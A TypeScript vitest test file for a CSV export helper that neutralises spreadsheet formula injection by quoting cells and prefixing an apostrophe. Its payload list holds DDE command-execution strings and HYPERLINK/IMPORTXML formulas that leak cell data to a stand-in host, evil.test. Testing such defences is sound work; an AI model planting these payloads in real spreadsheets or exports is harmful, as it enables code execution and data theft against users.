import { describe, expect, it } from "vitest";
import { csvField, toCsv } from "./csv.ts";

/** Reads one RFC 4180 line back into its cells (enough for these tests: no line breaks inside cells). */
function cellsOf(line: string): string[] {
  const cells: string[] = [];
  const re = /("(?:[^"]|"")*"|[^,]*)(,|$)/gy;
  for (let m = re.exec(line); m && m[0] !== ""; m = re.exec(line)) {
    const raw = m[1]!;
    cells.push(raw.startsWith('"') ? raw.slice(1, -1).replaceAll('""', '"') : raw);
    if (m[2] === "") break;
  }
  return cells;
}

describe("csvField", () => {
  const payloads = [
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    '=HYPERLINK("http://evil.test?leak="&A1,"Click")',
    "\t=1",
    "\r=1",
    '=DDE("cmd";"/C calc";"!A0")',
    "+cmd|' /C notepad'!'A1'",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.test?v=", A1), "//a")',
  ];

  it.each(payloads)("neutralises %j: quoted, with a leading apostrophe, read back as text", (payload) => {
    const field = csvField(payload);
    expect(field.startsWith(`"'`)).toBe(true);
    expect(field.endsWith('"')).toBe(true);
    expect(cellsOf(`${field},next`)).toEqual([`'${payload}`, "next"]);
  });

  it("quotes commas, quotes and line breaks, doubling quotes", () => {
    expect(csvField('Lee, "Ann"')).toBe('"Lee, ""Ann"""');
    expect(csvField("line one\nline two")).toBe('"line one\nline two"');
    expect(csvField("a\r\nb")).toBe('"a\r\nb"');
  });

  it("leaves plain text, a formula sign inside a cell and empty values alone", () => {
    expect(csvField("Ann Lee")).toBe("Ann Lee");
    expect(csvField("a=b")).toBe("a=b");
    expect(csvField("2026-11-25T17:00:00.000Z")).toBe("2026-11-25T17:00:00.000Z");
    expect(csvField(null)).toBe("");
    expect(csvField(undefined)).toBe("");
    expect(csvField("")).toBe("");
  });

  it("writes numbers our code computed as numbers, negative ones included", () => {
    expect(csvField(-3)).toBe("-3");
    expect(csvField(0.25)).toBe("0.25");
    expect(csvField(Number.NaN)).toBe("");
    // The same text from a person is text.
    expect(csvField("-3")).toBe(`"'-3"`);
  });
});

describe("toCsv", () => {
  it("writes a header and rows with CRLF line ends, every formula cell neutralised", () => {
    const csv = toCsv(
      ["name", "count"],
      [
        ["=1+1", 2],
        ["Ann", -1],
      ],
    );
    expect(csv).toBe(`name,count\r\n"'=1+1",2\r\nAnn,-1\r\n`);
  });
});
